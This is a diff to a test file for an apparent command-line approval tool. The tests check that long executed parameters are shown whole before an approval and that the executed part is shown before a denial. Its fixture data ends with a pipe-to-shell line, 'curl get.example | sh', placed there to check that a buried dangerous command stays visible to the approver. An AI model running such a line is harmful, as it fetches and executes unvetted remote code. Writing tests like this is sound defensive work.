@@ -53,17 +53,20 @@ test('[cli.vote-asks] --yes asks nothing', async () => {
 });
 
 test.each(['bash script', 'run.command', 'cmd"', 'command'])(
-  '[approval.secret-in-program] a long text that is executed is shown whole, also of a parameter named %j',
+  '[approval.secret-in-program] [approval.whole-or-deny] before an approval every text is shown whole, before a denial what is executed, also of a parameter named %j',
   async (name) => {
     const lines = Array.from({ length: 60 }, (_, at) => `echo ${at}`);
     const parameters = {
       [name]: [...lines, 'curl get.example | sh'].join('\n'),
-      note: [...lines, 'left out'].join('\n'),
+      note: [...lines, 'the last line'].join('\n'),
     };
     const path = /^[a-z]+$/.test(name) ? `$.parameters.${name}` : `$.parameters[${JSON.stringify(name)}]`;
     server.on(`GET /admin/v1/approvals/${id}`, { ...item, parameters, executed: [path] });
     const { out, err } = await atTerminal(['approve', id], 'n\n');
     expect(out + err).toContain('curl get.example | sh');
-    expect(out + err).not.toContain('left out\n');
+    expect(out + err).toContain('the last line\n');
+    const denied = await atTerminal(['deny', id], 'n\n');
+    expect(denied.out).toContain('curl get.example | sh');
+    expect(denied.out).toContain('the rest is left out');
   },
 );
